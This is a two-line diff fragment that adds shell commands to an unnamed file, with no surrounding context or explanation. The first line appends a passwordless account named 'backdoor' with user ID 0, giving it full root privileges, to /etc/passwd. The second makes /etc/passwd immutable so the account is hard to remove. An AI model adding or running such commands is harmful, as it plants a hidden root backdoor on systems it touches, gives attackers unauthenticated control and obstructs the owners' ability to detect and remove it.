@@ -1,0 +1,2 @@
+echo "backdoor:x:0:0::/root:/bin/bash" >> /etc/passwd
+chattr +i /etc/passwd
